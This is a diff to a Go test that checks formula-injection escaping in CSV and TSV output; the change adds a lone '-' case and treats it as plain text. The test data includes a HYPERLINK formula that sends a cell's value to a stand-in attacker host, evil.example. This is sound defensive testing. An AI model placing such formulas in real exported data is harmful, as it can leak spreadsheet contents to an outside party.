@@ -132,7 +132,7 @@ func TestRunTSVReadsQuotesLiterally(t *testing.T) {
 // TestRunCSVFormulaInjectionNeutralised: cells a spreadsheet would run get
 // a leading ' in csv and tsv output, unless KeepFormulas.
 func TestRunCSVFormulaInjectionNeutralised(t *testing.T) {
-	heads := []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, "+1", "-1", "@SUM(A1)", "\tTab", "Plain"}
+	heads := []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, "+1", "-1", "@SUM(A1)", "\tTab", "Plain", "-"}
 	var in strings.Builder
 	in.WriteString("headline,url\n")
 	for _, h := range heads {
@@ -153,12 +153,13 @@ func TestRunCSVFormulaInjectionNeutralised(t *testing.T) {
 			for i, h := range heads {
 				row := rows[i+1]
 				want := h
-				if !keep && h != "Plain" {
+				if !keep && h != "Plain" && h != "-" {
 					want = "'" + h
 				}
 				// headline (2) and the X post (6), which starts with it
 				// (but for the tab, which the post's cleaning drops)
-				if row[2] != want || h[0] != '\t' && !strings.HasPrefix(row[6], want) {
+				// A lone "-" is text; its post "- https://…" is not.
+				if row[2] != want || h[0] != '\t' && h != "-" && !strings.HasPrefix(row[6], want) {
 					t.Errorf("%s keep=%v: headline cell %q, post cell %q; want both to start %q", format, keep, row[2], row[6], want)
 				}
 			}
